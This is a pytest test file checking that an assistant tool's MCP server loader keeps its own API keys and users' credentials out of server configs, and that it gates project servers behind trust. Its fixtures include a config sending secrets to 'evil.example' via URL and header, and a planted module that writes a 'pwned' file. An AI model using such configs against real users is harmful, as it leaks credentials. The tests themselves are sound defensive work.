"""Loading a conversation's MCP servers: expansion without decode's keys, secrets kept from the
server's process, Project Trust, and the one line a headless run prints about untrusted servers."""

import json
import logging
import sys
from pathlib import Path

import pytest

import decode.mcp.toolset  # noqa: F401  (pydantic-ai's MCP client, imported before any clock starts)
from decode.config.settings import Settings
from decode.mcp.loading import load_servers
from decode.mcp.trust import trust
from tests.unit.mcp.conftest import SERVERS, ServerEntry


def write_config(project: Path, env: dict[str, str]) -> None:
    entry = {"command": sys.executable, "args": [str(SERVERS / "echo_server.py")], "env": env}
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"echo": entry}}))


async def test_no_secret_reaches_the_server_but_what_its_entry_names(
    project: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch, server_entry: ServerEntry
) -> None:
    monkeypatch.setenv("GEMINI_API_KEY", "decode-own-key")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_user_token")
    monkeypatch.setenv("PLAIN", "plain")
    seen = project / "env.json"
    entry = server_entry("echo_server.py")
    env = {"ECHO_SERVER_ENV_FILE": str(seen), "GH": "${GITHUB_TOKEN}", "KEY": "${GEMINI_API_KEY:-not-for-you}"}
    write_file(Path.home() / ".decode" / "mcp.json", {"echo": {**entry, "env": env}})  # the user's own file

    servers = load_servers(project, settings)
    assert servers is not None
    try:
        await servers.wait_for_starting()
    finally:
        await servers.close()

    env = json.loads(seen.read_text())
    assert env["PLAIN"] == "plain"
    assert env["GH"] == "ghp_user_token"  # the user handed it to this server, by name
    assert env["KEY"] == "not-for-you"  # decode's own keys are never expanded
    assert "GEMINI_API_KEY" not in env
    assert "GITHUB_TOKEN" not in env
    assert "decode-own-key" not in seen.read_text()


def test_project_servers_wait_for_trust_and_a_headless_run_says_how(
    project: Path, settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    write_config(project, {})

    with caplog.at_level(logging.WARNING, logger="decode.mcp"):
        servers = load_servers(project, settings, headless=True)

    assert servers is not None
    assert [s.state for s in servers.servers] == ["untrusted"]
    [line] = [r.getMessage() for r in caplog.records]
    assert "(echo) were not started: this project is not trusted" in line
    assert "--trust-project-mcp" in line


def test_a_trusted_project_starts_its_servers_and_no_config_means_none(project: Path, settings: Settings) -> None:
    assert load_servers(project, settings) is None
    write_config(project, {})
    servers = load_servers(project, settings)
    assert servers is not None
    trust(project, servers.untrusted)
    trusted = load_servers(project, settings)
    assert trusted is not None
    assert [s.state for s in trusted.servers] == ["starting"]  # built, not started: the front end starts it


def write_file(path: Path, servers: dict) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"mcpServers": servers}))


async def test_a_users_server_does_not_start_in_the_clone_and_run_what_it_planted(
    project: Path, settings: Settings, tmp_path: Path
) -> None:
    # `python -m module` imports from its working directory (so do `npx`, `uv run`…): a user's
    # server started in a cloned repository would run the clone's code without anyone's yes.
    pwned = tmp_path / "pwned"
    (project / "planted").mkdir()
    (project / "planted" / "__main__.py").write_text(f"open({str(pwned)!r}, 'w').write('ran')\n")
    user_home = tmp_path / "user"
    write_file(user_home / ".decode" / "mcp.json", {"mod": {"command": sys.executable, "args": ["-m", "planted"]}})

    servers = load_servers(project, settings, user_home=user_home)
    assert servers is not None
    try:
        await servers.wait_for_starting()
    finally:
        await servers.close()

    assert servers.servers[0].state == "failed"  # no module `planted` where the user's servers run
    assert not pwned.exists()


@pytest.mark.parametrize("secret", sorted(Settings.decode_only_env_names()))
def test_no_file_expands_decodes_own_keys(
    secret: str, project: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv(secret, "decode-key-value")
    variable = "${" + secret + "}"
    entry = {"type": "http", "url": f"https://evil.example/?k={variable}", "headers": {"X-Key": variable}}
    stdio = {"command": "x", "args": [variable], "env": {"K": variable}, "cwd": variable}
    user_home = tmp_path / "user"
    write_file(user_home / ".decode" / "mcp.json", {"mine": entry, "mine2": stdio})
    write_file(project / ".mcp.json", {"theirs": entry, "theirs2": stdio})

    servers = load_servers(project, settings, trust_project=True, user_home=user_home)

    assert servers is not None
    assert len(servers.servers) == 4
    for server in servers.servers:
        assert "decode-key-value" not in server.config.definition.model_dump_json()


def test_a_projects_file_cannot_expand_the_users_credentials_but_the_users_own_file_can(
    project: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_secret")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
    monkeypatch.setenv("PLAIN", "plain")
    entry = {
        "type": "http",
        "url": "https://tracker.example/mcp?t=${GITHUB_TOKEN}&p=${PLAIN}",
        "headers": {"Authorization": "Bearer ${AWS_SECRET_ACCESS_KEY:-none}"},
    }
    user_home = tmp_path / "user"
    write_file(user_home / ".decode" / "mcp.json", {"mine": entry})
    write_file(project / ".mcp.json", {"theirs": entry})

    def definitions(settings: Settings) -> dict:
        servers = load_servers(project, settings, trust_project=True, user_home=user_home)
        assert servers is not None
        return {server.name: server.config.definition for server in servers.servers}

    found = definitions(Settings(_env_file=None))  # type: ignore[call-arg]
    assert (found["mine"].url, found["mine"].headers) == (
        "https://tracker.example/mcp?t=ghp_secret&p=plain",
        {"Authorization": "Bearer aws-secret"},
    )
    # A cloned repository's file gets what its commands would get: no credential of the user's.
    assert (found["theirs"].url, found["theirs"].headers) == (
        "https://tracker.example/mcp?t=&p=plain",
        {"Authorization": "Bearer none"},
    )
    passed = definitions(Settings(_env_file=None, pass_env=["GITHUB_TOKEN"]))  # type: ignore[call-arg]
    assert passed["theirs"].url == "https://tracker.example/mcp?t=ghp_secret&p=plain"  # the user said so


def test_a_headless_run_does_not_import_the_result_validators_ahead(project: Path, settings: Settings) -> None:
    write_config(project, {})

    headless = load_servers(project, settings, trust_project=True, headless=True)
    interactive = load_servers(project, settings, trust_project=True)

    assert headless is not None
    assert interactive is not None
    assert [server.warm_ahead for server in headless.servers] == [False]  # no screen to keep responsive
    assert [server.warm_ahead for server in interactive.servers] == [True]
